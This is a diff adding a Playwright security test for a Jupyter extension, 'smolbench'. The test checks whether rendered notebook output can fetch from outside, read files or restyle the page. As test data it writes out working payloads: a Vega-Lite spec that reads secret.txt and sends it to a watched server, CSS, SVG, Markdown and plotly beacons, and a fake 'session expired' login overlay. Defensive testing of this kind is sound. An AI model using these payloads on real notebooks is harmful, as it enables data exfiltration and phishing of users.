@@ -11,6 +11,7 @@ to tests/artifacts/.
 
 from __future__ import annotations
 
+import contextlib
 import http.server
 import os
 import threading
@@ -156,4 +157,137 @@ def test_machine_output_cannot_run_script_in_jupyterlab(lab: tuple[str, list[str
             page.screenshot(path=str(ARTIFACTS / "xss_notebook.png"), full_page=True)
         except BaseException:
             page.screenshot(path=str(ARTIFACTS / "xss_failure.png"), full_page=True)
+            raise
+
+
+# -- issue 17: output that fetches (Vega, CSS, plotly, SVG, Markdown) or restyles the page ----------
+
+FETCH_SETUP = '''%%smol
+import sys
+agent = sys.modules['smolbench_guest']._agent
+W = 'http://127.0.0.1:{port}'
+def show(**bundle):
+    agent.send({'t': 'display', 'data': bundle})
+'''
+# Each vector names the watched server (W) or a file next to the notebook (secret.txt)
+FETCH_VECTORS = '''%%smol
+LEAK = {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json',
+        'data': {'url': 'secret.txt', 'format': {'type': 'csv'}},
+        'transform': [{'calculate': "'" + W + "/vega-exfil?d=' + datum.d", 'as': 'u'}],
+        'mark': 'image', 'encoding': {'url': {'field': 'u', 'type': 'nominal'}}, 'width': 50, 'height': 50}
+show(**{'application/vnd.vegalite.v5+json': LEAK, 'text/plain': 'vega-lite refused'})
+show(**{'application/vnd.vega.v5+json': {'data': [{'name': 't', 'url': W + '/vega-data'}]}, 'text/plain': 'vega refused'})
+show(**{'text/html': '<p class="v-css" style="background-image: image-set(url(' + W + '/css-image-set) 1x); color: rgb(200, 0, 0)">styled</p>'
+        '<p style="cursor: -webkit-image-set(url(' + W + '/css-cursor) 1x), auto">cursor</p>'
+        '<ul style="list-style: url(' + W + '/css-list)"><li>list</li></ul>'
+        '<style>.v-css { background: image-set("' + W + '/css-style-block" 1x) } .jp-Toolbar, .jp-smolbench-status,'
+        ' .jp-StatusBar-Widget { display: none !important } body { background: red !important }</style>'
+        '<a class="v-expired" style="position: fixed; inset: 0; z-index: 100000; background: white; font-size: 60px"'
+        ' href="' + W + '/expired">session expired: log in again</a>'
+        '<div class="jp-Dialog">a page class</div>'})
+show(**{'image/svg+xml': '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><style>rect{fill:url(' + W + '/svg-style)}</style>'
+        '<image href="' + W + '/svg-image" width="5" height="5"/><rect width="20" height="20" style="fill: url(' + W + '/svg-attr)"/>'
+        '<circle cx="30" cy="10" r="8" fill="blue"/></svg>'})
+show(**{'text/markdown': '**md** ![rel](secret.txt) ![abs](' + W + '/md-image) [rel link](/api/contents/secret.txt)'})
+show(**{'application/vnd.plotly.v1+json': {
+    'data': [{'type': 'bar', 'x': ['a', 'b'], 'y': [3, 5]}],
+    'layout': {'images': [{'source': W + '/plotly-image', 'xref': 'paper', 'yref': 'paper', 'x': 0, 'y': 1,
+                           'sizex': 0.5, 'sizey': 0.5}],
+               'annotations': [{'text': '<span style="cursor: url(' + W + '/plotly-text), auto">note</span>', 'x': 'a', 'y': 3}]}}})
+'''
+FETCH_TRUSTED = '''%%smol
+T = dict(LEAK, data={'url': 'trusted-secret.csv', 'format': {'type': 'csv'}},
+         transform=[{'calculate': "'" + W + "/trusted-exfil?d=' + datum.d", 'as': 'u'}])
+show(**{'application/vnd.vegalite.v5+json': T, 'text/plain': 'vega-lite'})
+'''
+
+
+@pytest.fixture
+def fetch_lab(tmp_path: Path, watched: tuple[int, list[str]]) -> Iterator[tuple[str, list[str], int]]:
+    port_w, hits = watched
+    for name in ("secret.txt", "trusted-secret.csv"):
+        (tmp_path / name).write_text("d\nthe-users-secret\n")
+    cells = ["%load_ext smolbench", "%smol down\n%smol up --backend sandbox", FETCH_SETUP.replace("{port}", str(port_w)),
+             FETCH_VECTORS, "print('ALL' + ' DONE')", "%smol trust on", FETCH_TRUSTED, "print('TRUSTED' + ' DONE')"]
+    write_notebook(tmp_path / "fetch.ipynb", cells)
+    with jupyter_server(tmp_path, "lab") as (base, token):
+        yield notebook_url(base, token, "lab", "fetch.ipynb"), hits, len(cells)
+
+
+OUTSIDE = """() => {
+  const hits = [];
+  const probe = (name, el) => {
+    if (!el) { hits.push(name + ': missing'); return; }
+    const r = el.getBoundingClientRect();
+    const top = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
+    if (!top || top.closest('.jp-OutputArea')) hits.push(name + ': covered by output');
+    const cs = getComputedStyle(el);
+    if (cs.display === 'none' || cs.visibility === 'hidden' || r.width === 0) hits.push(name + ': hidden');
+  };
+  probe('toolbar', document.querySelector('.jp-NotebookPanel-toolbar'));
+  probe('smolbench status', document.querySelector('.jp-smolbench-status'));
+  probe('menu bar', document.querySelector('#jp-menu-panel, .lm-MenuBar'));
+  const bg = getComputedStyle(document.body).backgroundColor;
+  if (bg === 'rgb(255, 0, 0)') hits.push('body restyled');
+  for (const el of document.querySelectorAll('.jp-OutputArea *')) {
+    const p = getComputedStyle(el).position;
+    if (p === 'fixed') hits.push('fixed element in an output: ' + el.outerHTML.slice(0, 80));
+  }
+  return hits;
+}"""
+
+
+def test_machine_output_cannot_fetch_or_restyle_the_page_in_jupyterlab(
+        fetch_lab: tuple[str, list[str], int]) -> None:
+    from playwright.sync_api import expect
+
+    url, hits, cells = fetch_lab
+    ARTIFACTS.mkdir(exist_ok=True)
+    with browser_page(1400, 1600) as page:
+        requests: list[str] = []
+        page.on("request", lambda r: requests.append(r.url))
+        console: list[str] = []
+        page.on("console", lambda m: console.append(m.text))
+        try:
+            page.goto(url)
+            page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
+            for attempt in range(3):
+                run_all(page, cells)
+                try:
+                    expect(page.locator(".jp-OutputArea-output", has_text="ALL DONE")).to_be_visible(timeout=90_000)
+                    break
+                except AssertionError:
+                    if attempt == 2:
+                        raise
+            vectors = page.locator(".jp-Notebook .jp-Cell").nth(3)
+            # what is harmless still renders: the colour, the shapes, the markdown, the plot
+            expect(vectors.locator("strong", has_text="md")).to_be_visible()
+            expect(vectors.locator(".js-plotly-plot .bars path")).to_have_count(2, timeout=30_000)
+            page.wait_for_timeout(2000)  # time for any fetch to land
+            # (the trusted cells below may already have run: their requests are named trusted-)
+            leaked = [h for h in hits if not h.startswith("/trusted-")]
+            assert leaked == [], f"machine output fetched from the watched server: {leaked}"
+            secret = [u for u in requests if "/secret.txt" in u or "/files/" in u and "trusted-" not in u]
+            assert secret == [], f"machine output made the browser read the Jupyter server: {secret}"
+            assert page.evaluate(OUTSIDE) == [], "machine output changed the page outside its output"
+            expect(vectors.locator("p.v-css")).to_have_css("color", "rgb(200, 0, 0)")  # a safe style stays
+            vectors.screenshot(path=str(ARTIFACTS / "fetch_machine_output.png"))
+            expect(vectors.locator(".jp-OutputArea-output", has_text="vega-lite refused")).to_be_visible()
+            expect(vectors.locator(".jp-OutputArea-output",
+                                   has_text="application/vnd.vegalite.v5+json output, which was not shown")).to_be_visible()
+
+            # Weakened: trusted mode renders the Vega-Lite spec, which reads the file next to the
+            # notebook through the Jupyter server (with the user's cookies) and sends it out
+            expect(page.locator(".jp-OutputArea-output", has_text="TRUSTED DONE")).to_be_visible(timeout=90_000)
+            trusted = page.locator(".jp-Notebook .jp-Cell").nth(6)
+            trusted.scroll_into_view_if_needed()
+            deadline = time.monotonic() + 30
+            while not any("trusted-exfil" in h for h in hits) and time.monotonic() < deadline:
+                time.sleep(0.2)
+            assert any("trusted-secret.csv" in u for u in requests)
+            assert "/trusted-exfil?d=the-users-secret" in hits, hits
+        except BaseException:
+            with contextlib.suppress(Exception):
+                page.screenshot(path=str(ARTIFACTS / "fetch_failure.png"), timeout=10_000)
+            (ARTIFACTS / "fetch_failure.txt").write_text("\n".join(["requests:", *requests, "console:", *console]))
             raise
